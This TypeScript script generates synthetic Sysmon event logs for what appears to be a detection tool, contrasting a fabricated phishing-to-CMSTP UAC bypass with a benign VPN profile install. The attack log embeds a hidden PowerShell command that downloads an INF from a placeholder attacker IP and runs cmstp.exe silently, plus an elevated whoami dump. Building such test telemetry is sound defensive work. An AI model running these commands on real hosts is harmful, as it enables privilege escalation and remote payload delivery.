// Writes the shipped example logs: invented Sysmon telemetry of one workstation.
//   examples/cmstp-uac-bypass.evtx     phishing document -> PowerShell -> CMSTP UAC bypass (T1218.003)
//   examples/benign-vpn-profile.evtx   a legitimate Connection Manager profile install
// Everything is derived from fixed inputs, so every run produces the same bytes.
// Usage: node dist/scripts/make-examples.js [output-dir]   (default: <project>/examples)

import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { writeEvtx, type WriteEvent, type WriteValue } from '../src/evtx/writer/index.js';

const HOST = 'WKS-FIN-042.corp.example';
const USER = 'CORP\\j.doe';
const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const SYSTEM32 = 'C:\\Windows\\System32';
const TEMP = 'C:\\Users\\j.doe\\AppData\\Local\\Temp';
const ATTACKER_IP = '203.0.113.45';
const HOST_IP = '10.20.30.42';

/** Sysmon64.exe's own process: the System block's Execution element. */
const SYSMON_PID = 3120;

// ---------------------------------------------------------------------------------------------
// Invented but well-formed identifiers

const digest = (algo: string, text: string): string => createHash(algo).update(text).digest('hex').toUpperCase();
const hex = (n: number, width: number): string => n.toString(16).toUpperCase().padStart(width, '0');

/** Sysmon's Hashes field for a file, as configured with MD5, SHA256 and IMPHASH. */
const hashes = (path: string): string =>
  `MD5=${digest('md5', path)},SHA256=${digest('sha256', path)},IMPHASH=${digest('md5', `imports:${path}`)}`;

/** Sysmon 13+ process GUIDs: machine prefix, start time (low/high 16 bits), a sequence byte. */
function processGuid(start: Date, seq: number): string {
  const t = Math.floor(start.getTime() / 1000);
  return `{B7E4A2C1-${hex(t & 0xffff, 4)}-${hex(t >>> 16, 4)}-${hex(seq & 0xff, 2)}00-000000001B00}`;
}

interface Logon {
  guid: string;
  id: bigint;
  session: number;
}

/** Logon GUIDs embed the logon id (little-endian) the way Sysmon's do. */
function logon(id: bigint, session: number, at: Date): Logon {
  const t = Math.floor(at.getTime() / 1000);
  const le = hex(Number(id & 0xffn), 2) + hex(Number((id >> 8n) & 0xffn), 2);
  const rest = hex(Number((id >> 16n) & 0xffn), 2) + '0000000000';
  return { guid: `{B7E4A2C1-${hex(t & 0xffff, 4)}-${hex(t >>> 16, 4)}-${le}-${rest}}`, id, session };
}

const SYSTEM_LOGON = logon(0x3e7n, 0, new Date(Date.UTC(2026, 2, 17, 7, 58, 2)));
const USER_LOGON = logon(0x2f0e7n, 1, new Date(Date.UTC(2026, 2, 17, 8, 0, 41)));
const USER_LOGON_ELEVATED = logon(0x2f11an, 1, new Date(Date.UTC(2026, 2, 17, 8, 0, 41)));

/** Version resource fields of an executable or DLL. */
interface PeInfo {
  fileVersion: string;
  description: string;
  product: string;
  company: string;
  originalFileName: string;
}

const WINDOWS = 'Microsoft® Windows® Operating System';
const MS = 'Microsoft Corporation';
const winPe = (description: string, originalFileName: string, fileVersion = '10.0.22621.3235 (WinBuild.160101.0800)'): PeInfo => ({
  fileVersion,
  description,
  product: WINDOWS,
  company: MS,
  originalFileName,
});

interface Proc {
  guid: string;
  pid: number;
  image: string;
  commandLine: string;
  currentDirectory: string;
  user: string;
  integrity: 'Low' | 'Medium' | 'High' | 'System';
  logon: Logon;
  pe: PeInfo;
}

let seq = 0x40;
function proc(start: Date, p: Omit<Proc, 'guid'>): Proc {
  return { guid: processGuid(start, seq++), ...p };
}

// ---------------------------------------------------------------------------------------------
// Sysmon events (field names, order and types as Sysmon 15 writes them)

const utc = (d: Date): string => d.toISOString().replace('T', ' ').replace('Z', '');
const u32 = (value: number): WriteValue => ({ type: 'uint32', value });
const g = (value: string): WriteValue => ({ type: 'guid', value });

/** The System block shared by all Sysmon events; the event is logged a few ms after it happened. */
function sysmon(eventId: number, version: number, at: Date, threadId: number, data: Array<[string, string | WriteValue]>): WriteEvent {
  return {
    time: new Date(at.getTime() + 2),
    provider: 'Microsoft-Windows-Sysmon',
    providerGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
    eventId,
    version,
    level: 4,
    task: eventId,
    opcode: 0,
    keywords: 0x8000000000000000n,
    processId: SYSMON_PID,
    threadId,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    computer: HOST,
    userId: 'S-1-5-18',
    eventData: data,
  };
}

/** Event 1, ProcessCreate (version 5). */
function processCreate(at: Date, p: Proc, parent: Proc, ruleName = '-'): WriteEvent {
  return sysmon(1, 5, at, 4236, [
    ['RuleName', ruleName],
    ['UtcTime', utc(at)],
    ['ProcessGuid', g(p.guid)],
    ['ProcessId', u32(p.pid)],
    ['Image', p.image],
    ['FileVersion', p.pe.fileVersion],
    ['Description', p.pe.description],
    ['Product', p.pe.product],
    ['Company', p.pe.company],
    ['OriginalFileName', p.pe.originalFileName],
    ['CommandLine', p.commandLine],
    ['CurrentDirectory', p.currentDirectory],
    ['User', p.user],
    ['LogonGuid', g(p.logon.guid)],
    ['LogonId', { type: 'hex64', value: p.logon.id }],
    ['TerminalSessionId', u32(p.logon.session)],
    ['IntegrityLevel', p.integrity],
    ['Hashes', hashes(p.image)],
    ['ParentProcessGuid', g(parent.guid)],
    ['ParentProcessId', u32(parent.pid)],
    ['ParentImage', parent.image],
    ['ParentCommandLine', parent.commandLine],
    ['ParentUser', parent.user],
  ]);
}

interface Connection {
  srcPort: number;
  dstIp: string;
  dstHost: string;
  dstPort: number;
  dstPortName: string;
}

/** Event 3, NetworkConnect (version 5). */
function networkConnect(at: Date, p: Proc, c: Connection, ruleName = '-'): WriteEvent {
  return sysmon(3, 5, at, 4412, [
    ['RuleName', ruleName],
    ['UtcTime', utc(at)],
    ['ProcessGuid', g(p.guid)],
    ['ProcessId', u32(p.pid)],
    ['Image', p.image],
    ['User', p.user],
    ['Protocol', 'tcp'],
    ['Initiated', { type: 'bool', value: true }],
    ['SourceIsIpv6', { type: 'bool', value: false }],
    ['SourceIp', HOST_IP],
    ['SourceHostname', HOST],
    ['SourcePort', { type: 'uint16', value: c.srcPort }],
    ['SourcePortName', '-'],
    ['DestinationIsIpv6', { type: 'bool', value: false }],
    ['DestinationIp', c.dstIp],
    ['DestinationHostname', c.dstHost],
    ['DestinationPort', { type: 'uint16', value: c.dstPort }],
    ['DestinationPortName', c.dstPortName],
  ]);
}

/** Event 7, ImageLoad (version 3). */
function imageLoad(at: Date, p: Proc, path: string, pe: PeInfo, signature = 'Microsoft Windows'): WriteEvent {
  return sysmon(7, 3, at, 4380, [
    ['RuleName', '-'],
    ['UtcTime', utc(at)],
    ['ProcessGuid', g(p.guid)],
    ['ProcessId', u32(p.pid)],
    ['Image', p.image],
    ['ImageLoaded', path],
    ['FileVersion', pe.fileVersion],
    ['Description', pe.description],
    ['Product', pe.product],
    ['Company', pe.company],
    ['OriginalFileName', pe.originalFileName],
    ['Hashes', hashes(path)],
    ['Signed', 'true'],
    ['Signature', signature],
    ['SignatureStatus', 'Valid'],
    ['User', p.user],
  ]);
}

/** Event 11, FileCreate (version 2). */
function fileCreate(at: Date, p: Proc, target: string, ruleName = '-'): WriteEvent {
  return sysmon(11, 2, at, 4236, [
    ['RuleName', ruleName],
    ['UtcTime', utc(at)],
    ['ProcessGuid', g(p.guid)],
    ['ProcessId', u32(p.pid)],
    ['Image', p.image],
    ['TargetFilename', target],
    ['CreationUtcTime', utc(at)],
    ['User', p.user],
  ]);
}

/** Event 13, RegistryEvent (Value Set) (version 2). */
function registrySet(at: Date, p: Proc, key: string, details: string, ruleName = '-'): WriteEvent {
  return sysmon(13, 2, at, 4236, [
    ['RuleName', ruleName],
    ['EventType', 'SetValue'],
    ['UtcTime', utc(at)],
    ['ProcessGuid', g(p.guid)],
    ['ProcessId', u32(p.pid)],
    ['Image', p.image],
    ['TargetObject', key],
    ['Details', details],
    ['User', p.user],
  ]);
}

// ---------------------------------------------------------------------------------------------
// Processes present on the host all day

const boot = new Date(Date.UTC(2026, 2, 17, 7, 58, 0));
const at = (day: number, h: number, m: number, s: number, ms: number): Date => new Date(Date.UTC(2026, 2, day, h, m, s, ms));

const services = proc(boot, {
  pid: 788,
  image: `${SYSTEM32}\\services.exe`,
  commandLine: 'C:\\Windows\\system32\\services.exe',
  currentDirectory: 'C:\\Windows\\system32\\',
  user: SYSTEM,
  integrity: 'System',
  logon: SYSTEM_LOGON,
  pe: winPe('Services and Controller app', 'services.exe'),
});
const svchost = (start: Date, pid: number, args: string): Proc =>
  proc(start, {
    pid,
    image: `${SYSTEM32}\\svchost.exe`,
    commandLine: `C:\\Windows\\system32\\svchost.exe ${args}`,
    currentDirectory: 'C:\\Windows\\system32\\',
    user: SYSTEM,
    integrity: 'System',
    logon: SYSTEM_LOGON,
    pe: winPe('Host Process for Windows Services', 'svchost.exe'),
  });
const dcomLaunch = svchost(boot, 1012, '-k DcomLaunch -p');
const userinit = proc(at(17, 8, 0, 43, 120), {
  pid: 6212,
  image: `${SYSTEM32}\\userinit.exe`,
  commandLine: 'C:\\Windows\\system32\\userinit.exe',
  currentDirectory: 'C:\\Windows\\system32\\',
  user: USER,
  integrity: 'Medium',
  logon: USER_LOGON,
  pe: winPe('Userinit Logon Application', 'USERINIT.EXE'),
});
const explorer = (start: Date, pid: number, session: Logon): Proc =>
  proc(start, {
    pid,
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: USER,
    integrity: 'Medium',
    logon: session,
    pe: winPe('Windows Explorer', 'EXPLORER.EXE'),
  });
const chrome = (start: Date, pid: number, args: string): Proc =>
  proc(start, {
    pid,
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    commandLine: `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"${args}`,
    currentDirectory: 'C:\\Program Files\\Google\\Chrome\\Application\\122.0.6261.129\\',
    user: USER,
    integrity: args === '' ? 'Medium' : 'Low',
    logon: USER_LOGON,
    pe: {
      fileVersion: '122.0.6261.129',
      description: 'Google Chrome',
      product: 'Google Chrome',
      company: 'Google LLC',
      originalFileName: 'chrome.exe',
    },
  });

// ---------------------------------------------------------------------------------------------
// examples/cmstp-uac-bypass.evtx

function cmstpUacBypass(): WriteEvent[] {
  const shell = explorer(at(17, 8, 0, 44, 871), 6348, USER_LOGON);
  const browser = chrome(at(17, 8, 3, 12, 404), 7720, '');
  const renderer = chrome(at(17, 8, 3, 12, 981), 7904, ' --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id=7');
  const wuauserv = svchost(at(17, 8, 11, 5, 233), 5116, '-k netsvcs -p -s wuauserv');
  const doc = 'C:\\Users\\j.doe\\Downloads\\Q1-invoice-review.docm';
  const word = proc(at(17, 9, 14, 2, 318), {
    pid: 8840,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}" /o ""`,
    currentDirectory: 'C:\\Users\\j.doe\\Downloads\\',
    user: USER,
    integrity: 'Medium',
    logon: USER_LOGON,
    pe: {
      fileVersion: '16.0.17328.20162',
      description: 'Microsoft Word',
      product: 'Microsoft Office',
      company: MS,
      originalFileName: 'WinWord.exe',
    },
  });
  const inf = `${TEMP}\\vpn.inf`;
  const powershell = proc(at(17, 9, 14, 9, 77), {
    pid: 9132,
    image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine:
      `powershell.exe -NoProfile -WindowStyle Hidden -Command "$p=\\"$env:TEMP\\vpn.inf\\"; ` +
      `(New-Object Net.WebClient).DownloadFile('https://${ATTACKER_IP}/vpn.inf',$p); cmstp.exe /s /ns $p /au"`,
    currentDirectory: 'C:\\Users\\j.doe\\Documents\\',
    user: USER,
    integrity: 'Medium',
    logon: USER_LOGON,
    pe: winPe('Windows PowerShell', 'PowerShell.EXE', '10.0.22621.2506 (WinBuild.160101.0800)'),
  });
  const cmstp = proc(at(17, 9, 14, 11, 640), {
    pid: 9276,
    image: `${SYSTEM32}\\cmstp.exe`,
    commandLine: `"C:\\Windows\\system32\\cmstp.exe" /s /ns ${inf} /au`,
    currentDirectory: 'C:\\Users\\j.doe\\Documents\\',
    user: USER,
    integrity: 'Medium',
    logon: USER_LOGON,
    pe: winPe('Microsoft Connection Manager Profile Installer', 'CMSTP.EXE', '7.2.22621.1 (WinBuild.160101.0800)'),
  });
  const dllhost = proc(at(17, 9, 14, 12, 15), {
    pid: 9340,
    image: `${SYSTEM32}\\DllHost.exe`,
    commandLine: 'C:\\Windows\\System32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: USER,
    integrity: 'High',
    logon: USER_LOGON_ELEVATED,
    pe: winPe('COM Surrogate', 'dllhost.exe'),
  });
  const cmd = proc(at(17, 9, 14, 12, 702), {
    pid: 9412,
    image: `${SYSTEM32}\\cmd.exe`,
    commandLine: '"C:\\Windows\\system32\\cmd.exe" /c whoami /groups > C:\\Users\\Public\\g.txt',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: USER,
    integrity: 'High',
    logon: USER_LOGON_ELEVATED,
    pe: winPe('Windows Command Processor', 'Cmd.Exe'),
  });
  const whoami = proc(at(17, 9, 14, 12, 788), {
    pid: 9436,
    image: `${SYSTEM32}\\whoami.exe`,
    commandLine: 'whoami  /groups',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: USER,
    integrity: 'High',
    logon: USER_LOGON_ELEVATED,
    pe: winPe('whoami - displays logged on user information', 'whoami.exe'),
  });
  const taskhost = proc(at(17, 9, 20, 0, 11), {
    pid: 9804,
    image: `${SYSTEM32}\\taskhostw.exe`,
    commandLine: 'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: SYSTEM,
    integrity: 'System',
    logon: SYSTEM_LOGON,
    pe: winPe('Host Process for Windows Tasks', 'taskhostw.exe'),
  });
  const scheduler = svchost(boot, 1460, '-k netsvcs -p -s Schedule');
  const searchIndexer = proc(boot, {
    pid: 4420,
    image: `${SYSTEM32}\\SearchIndexer.exe`,
    commandLine: 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: SYSTEM,
    integrity: 'System',
    logon: SYSTEM_LOGON,
    pe: winPe('Microsoft Windows Search Indexer', 'SearchIndexer.exe'),
  });
  const searchProtocolHost = proc(at(17, 8, 15, 40, 66), {
    pid: 6904,
    image: `${SYSTEM32}\\SearchProtocolHost.exe`,
    commandLine:
      '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe4_ Global\\UsGthrCtrlFltPipeMssGthrPipe4 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ',
    currentDirectory: 'C:\\Windows\\system32\\',
    user: SYSTEM,
    integrity: 'System',
    logon: SYSTEM_LOGON,
    pe: winPe('Microsoft Windows Search Protocol Host', 'SearchProtocolHost.exe'),
  });
  const updateCheck = svchost(at(17, 9, 31, 44, 502), 10188, '-k netsvcs -p -s BITS');
  const userSid = 'S-1-5-21-3623811015-3361044348-30300820-1013';

  return [
    // Ordinary morning activity.
    { ...processCreate(at(17, 8, 0, 44, 871), shell, userinit), recordId: 48213 },
    processCreate(at(17, 8, 3, 12, 404), browser, shell),
    processCreate(at(17, 8, 3, 12, 981), renderer, browser),
    networkConnect(at(17, 8, 3, 14, 120), browser, {
      srcPort: 51234,
      dstIp: '198.51.100.23',
      dstHost: 'mail.corp.example',
      dstPort: 443,
      dstPortName: 'https',
    }),
    processCreate(at(17, 8, 11, 5, 233), wuauserv, services),
    processCreate(at(17, 8, 15, 40, 66), searchProtocolHost, searchIndexer),
    registrySet(
      at(17, 8, 42, 19, 350),
      shell,
      `HKU\\${userSid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\MRUListEx`,
      'Binary Data',
    ),
    processCreate(at(17, 9, 2, 37, 916), chrome(at(17, 9, 2, 37, 916), 8120, ' --type=utility --utility-sub-type=network.mojom.NetworkService'), browser),
    fileCreate(at(17, 9, 13, 51, 207), browser, doc),
    // The user opens the attachment; a macro starts PowerShell.
    processCreate(at(17, 9, 14, 2, 318), word, shell),
    imageLoad(at(17, 9, 14, 6, 930), word, 'C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1\\VBE7.DLL', {
      fileVersion: '7.1.11.20',
      description: 'Visual Basic for Applications Runtime',
      product: 'Visual Basic for Applications',
      company: MS,
      originalFileName: 'VBE7.DLL',
    }, 'Microsoft Corporation'),
    processCreate(at(17, 9, 14, 9, 77), powershell, word, 'technique_id=T1059.001,technique_name=PowerShell'),
    networkConnect(at(17, 9, 14, 10, 402), powershell, {
      srcPort: 52877,
      dstIp: ATTACKER_IP,
      dstHost: '-',
      dstPort: 443,
      dstPortName: 'https',
    }),
    fileCreate(at(17, 9, 14, 11, 18), powershell, inf),
    // CMSTP installs the INF; its RunPreSetupCommands / UnRegisterOCX sections fetch a scriptlet.
    processCreate(at(17, 9, 14, 11, 640), cmstp, powershell, 'technique_id=T1218.003,technique_name=CMSTP'),
    networkConnect(at(17, 9, 14, 11, 905), cmstp, {
      srcPort: 52881,
      dstIp: ATTACKER_IP,
      dstHost: '-',
      dstPort: 443,
      dstPortName: 'https',
    }, 'technique_id=T1218.003,technique_name=CMSTP'),
    // The auto-elevating CMSTPLUA COM object runs in a DllHost surrogate at High integrity.
    processCreate(at(17, 9, 14, 12, 15), dllhost, dcomLaunch),
    imageLoad(at(17, 9, 14, 12, 41), dllhost, `${SYSTEM32}\\cmlua.dll`, winPe('Connection Manager Admin API Helper', 'cmlua.dll', '7.2.22621.1 (WinBuild.160101.0800)')),
    registrySet(
      at(17, 9, 14, 12, 377),
      dllhost,
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe\\ProfileInstallPath',
      'C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm',
      'technique_id=T1548.002,technique_name=Bypass User Access Control',
    ),
    processCreate(at(17, 9, 14, 12, 702), cmd, dllhost, 'technique_id=T1548.002,technique_name=Bypass User Access Control'),
    processCreate(at(17, 9, 14, 12, 788), whoami, cmd),
    fileCreate(at(17, 9, 14, 12, 830), cmd, 'C:\\Users\\Public\\g.txt'),
    // Background noise afterwards.
    processCreate(at(17, 9, 20, 0, 11), taskhost, scheduler),
    processCreate(at(17, 9, 31, 44, 502), updateCheck, services),
    networkConnect(at(17, 9, 31, 45, 120), updateCheck, {
      srcPort: 53010,
      dstIp: '198.51.100.80',
      dstHost: 'wsus.corp.example',
      dstPort: 8530,
      dstPortName: '-',
    }),
    networkConnect(at(17, 9, 38, 12, 730), browser, {
      srcPort: 53122,
      dstIp: '198.51.100.23',
      dstHost: 'mail.corp.example',
      dstPort: 443,
      dstPortName: 'https',
    }),
    fileCreate(at(17, 9, 40, 3, 664), wuauserv, 'C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb.chk'),
    processCreate(at(17, 9, 47, 20, 315), chrome(at(17, 9, 47, 20, 315), 10344, ' --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id=19'), browser),
    imageLoad(at(17, 9, 52, 8, 90), shell, `${SYSTEM32}\\windows.storage.dll`, winPe('Microsoft WinRT Storage API', 'Windows.Storage.dll')),
    processCreate(at(17, 10, 5, 33, 480), svchost(at(17, 10, 5, 33, 480), 10512, '-k LocalService -p -s W32Time'), services),
  ];
}

// ---------------------------------------------------------------------------------------------
// examples/benign-vpn-profile.evtx

function benignVpnProfile(): WriteEvent[] {
  const day = 9; // 2026-02-09: weeks before the attack, same workstation and user
  const feb = (h: number, m: number, s: number, ms: number): Date => new Date(Date.UTC(2026, 1, day, h, m, s, ms));
  const session = logon(0x1c4a2n, 1, feb(8, 2, 5, 0));
  const shell = explorer(feb(8, 2, 10, 512), 5904, session);
  const installerPath = 'C:\\Users\\j.doe\\Downloads\\ContosoVPN-Setup-4.2.1.exe';
  const contosoPe: PeInfo = {
    fileVersion: '4.2.1.0',
    description: 'Contoso VPN Setup',
    product: 'Contoso VPN',
    company: 'Contoso Ltd.',
    originalFileName: 'ContosoVPN-Setup.exe',
  };
  const installer = proc(feb(10, 21, 4, 77), {
    pid: 7312,
    image: installerPath,
    commandLine: `"${installerPath}"`,
    currentDirectory: 'C:\\Users\\j.doe\\Downloads\\',
    user: USER,
    integrity: 'Medium',
    logon: session,
    pe: contosoPe,
  });
  const infPath = 'C:\\Program Files\\Contoso VPN\\contoso.inf';
  const cmstp = proc(feb(10, 22, 31, 250), {
    pid: 7468,
    image: `${SYSTEM32}\\cmstp.exe`,
    commandLine: `"C:\\Windows\\system32\\cmstp.exe" "${infPath}"`,
    currentDirectory: 'C:\\Program Files\\Contoso VPN\\',
    user: USER,
    integrity: 'Medium',
    logon: session,
    pe: winPe('Microsoft Connection Manager Profile Installer', 'CMSTP.EXE', '7.2.22621.1 (WinBuild.160101.0800)'),
  });
  const cmDir = 'C:\\Users\\j.doe\\AppData\\Roaming\\Microsoft\\Network\\Connections\\Cm';
  const userSid = 'S-1-5-21-3623811015-3361044348-30300820-1013';
  return [
    { ...processCreate(feb(10, 21, 4, 77), installer, shell), recordId: 31877 },
    imageLoad(feb(10, 21, 4, 96), installer, installerPath, contosoPe, 'Contoso Ltd.'),
    fileCreate(feb(10, 21, 9, 415), installer, 'C:\\Program Files\\Contoso VPN\\contoso.cms'),
    fileCreate(feb(10, 21, 9, 433), installer, infPath),
    fileCreate(feb(10, 21, 9, 460), installer, 'C:\\Program Files\\Contoso VPN\\contoso.pbk'),
    // The installer's final page offers "Install VPN profile"; the user starts it from Explorer.
    processCreate(feb(10, 22, 31, 250), cmstp, shell),
    imageLoad(feb(10, 22, 31, 288), cmstp, `${SYSTEM32}\\cmdial32.dll`, winPe('Microsoft Connection Manager', 'cmdial32.dll', '7.2.22621.1 (WinBuild.160101.0800)')),
    fileCreate(feb(10, 22, 33, 902), cmstp, `${cmDir}\\contoso.cmp`),
    fileCreate(feb(10, 22, 33, 918), cmstp, `${cmDir}\\contoso\\contoso.cms`),
    registrySet(
      feb(10, 22, 34, 15),
      cmstp,
      `HKU\\${userSid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\contoso\\UninstallString`,
      `C:\\Windows\\system32\\cmstp.exe /u "${cmDir}\\contoso.inf"`,
    ),
  ];
}

// ---------------------------------------------------------------------------------------------

const outDir = process.argv[2] ?? fileURLToPath(new URL('../../examples/', import.meta.url));
mkdirSync(outDir, { recursive: true });
for (const [name, events] of [
  ['cmstp-uac-bypass.evtx', cmstpUacBypass()],
  ['benign-vpn-profile.evtx', benignVpnProfile()],
] as const) {
  const bytes = writeEvtx(events);
  const path = join(outDir, name);
  writeFileSync(path, bytes);
  console.log(`wrote ${path}: ${events.length} records, ${bytes.length} bytes`);
}
